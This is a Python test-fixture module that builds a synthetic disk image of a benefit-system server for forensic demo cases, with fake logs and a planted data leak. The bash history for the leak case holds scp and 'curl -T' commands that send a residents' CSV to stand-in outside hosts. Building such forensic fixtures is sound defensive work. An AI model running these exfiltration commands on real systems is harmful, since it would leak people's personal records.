"""Contents of the benefit system's server (SV-01) of both demo cases."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Final

from tests.builders import documents, images
from tests.builders.people import Resident
from tests.builders.tree import Item, at

__all__ = ["server_disk"]

SIZE: Final = 48 << 20
INSTALLED: Final = at("2021-04-01 09:00:00")
FIRST, LAST = at("2022-05-20 00:00:00"), at("2022-06-25 08:00:00")
HOST: Final = "kyufu-sv"


def server_disk(case: str, scratch: Path, people: Sequence[Resident]) -> bytes:
    """Return the whole disk: MBR and one ext4 volume."""
    leak = case == "demo-leak"
    export = documents.register_csv(people, encoding="utf-8")
    dump = documents.register_csv(people[200:500], encoding="utf-8")
    items = [
        _file("/etc/hostname", f"{HOST}\n".encode(), "2021-04-01 09:10:00"),
        _file("/etc/timezone", b"Asia/Tokyo\n", "2021-04-01 09:10:00"),
        _file("/srv/export/residents_utf8.csv", export, "2022-06-21 16:50:00"),
        _file("/srv/export/dump_20220510.csv", dump, "2022-05-10 23:00:00", deleted=True),
        _file("/home/op/.bash_history", _shell(leak), "2022-06-24 10:05:00"),
        _file("/home/op/.ssh/known_hosts", _known_hosts(leak), "2022-06-22 23:10:00"),
        _file("/var/log/auth.log", _auth(leak), "2022-06-25 08:00:00"),
        _file("/var/log/vsftpd.log", _ftp(), "2022-06-25 08:00:00"),
        _file("/var/log/nginx/access.log", _access(), "2022-06-25 08:00:00"),
    ]
    return images.disk(images.ext4(scratch, SIZE, items, settled=INSTALLED), kind=0x83, signature=0x5AFE0003)


def _file(path: str, data: bytes, when: str, *, deleted: bool = False) -> Item:
    moment = at(when)
    return Item(path=path, data=data, created=moment, modified=moment, accessed=moment, deleted=deleted)


def _shell(leak: bool) -> bytes:
    """Return a bash history with times (HISTTIMEFORMAT: a line of # and the epoch before each command)."""
    commands = [
        ("2022-06-01 09:02:00", "systemctl status nginx"),
        ("2022-06-10 09:01:10", "df -h"),
        ("2022-06-21 16:48:30", "/opt/kyufu/bin/export --out /srv/export/residents_utf8.csv"),
        ("2022-06-24 10:05:00", "tail -n 50 /var/log/auth.log"),
    ]
    if leak:
        commands += [
            ("2022-06-22 23:08:12", "scp /srv/export/residents_utf8.csv drop@203.0.113.45:/tmp/"),
            ("2022-06-22 23:12:40", "curl -T /srv/export/residents_utf8.csv https://paste.example.net/up"),
        ]
    return "".join(f"#{int(at(when).timestamp())}\n{text}\n" for when, text in sorted(commands)).encode()


def _known_hosts(leak: bool) -> bytes:
    hosts = ["198.51.100.10", *(["203.0.113.45"] if leak else [])]
    return "".join(f"{host} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA{'A' * 42}\n" for host in hosts).encode()


def _auth(leak: bool) -> bytes:
    """Return syslog lines of cron sessions every two hours and of operators' logins."""
    lines = []
    when = FIRST
    while when <= LAST:
        stamp = f"{when:%b} {when.day:2} {when:%H:%M:%S}"
        lines.append(
            (
                when,
                (
                    f"{stamp} {HOST} CRON[{900 + when.hour}]: pam_unix(cron:session): "
                    "session opened for user root by (uid=0)"
                ),
            )
        )
        when += timedelta(hours=2)
    logins = ["2022-06-01 09:00:12", "2022-06-10 09:00:03", "2022-06-21 16:47:55", "2022-06-24 10:03:31"]
    for text in [*logins, *(["2022-06-22 23:05:44"] if leak else [])]:
        when = at(text)
        source = "198.51.100.77" if text.startswith("2022-06-22") else "192.0.2.21"
        stamp = f"{when:%b} {when.day:2} {when:%H:%M:%S}"
        lines.append(
            (
                when,
                (
                    f"{stamp} {HOST} sshd[2211]: Accepted publickey for op from {source} "
                    "port 50222 ssh2: ED25519 SHA256:synthetic"
                ),
            )
        )
    return "".join(f"{line}\n" for _, line in sorted(lines)).encode()


def _ftp() -> bytes:
    lines, when = [], FIRST.replace(hour=1)
    while when <= LAST:
        lines.append(f'{when:%a %b} {when.day:2} {when:%H:%M:%S} {when.year} [pid 1201] CONNECT: Client "192.0.2.30"')
        when += timedelta(hours=6)
    return "".join(f"{line}\n" for line in lines).encode()


def _access() -> bytes:
    """Return an access log in the combined format."""
    lines, when = [], FIRST
    pages = ("/", "/kyufu/status", "/kyufu/login", "/health")
    while when <= LAST:
        page = pages[when.hour % 4]
        lines.append(
            f'192.0.2.{20 + when.hour} - - [{when:%d/%b/%Y:%H:%M:%S} +0900] "GET {page} HTTP/1.1" '
            f'200 {512 + when.hour} "-" "Mozilla/5.0"'
        )
        when += timedelta(hours=1)
    return "".join(f"{line}\n" for line in lines).encode()
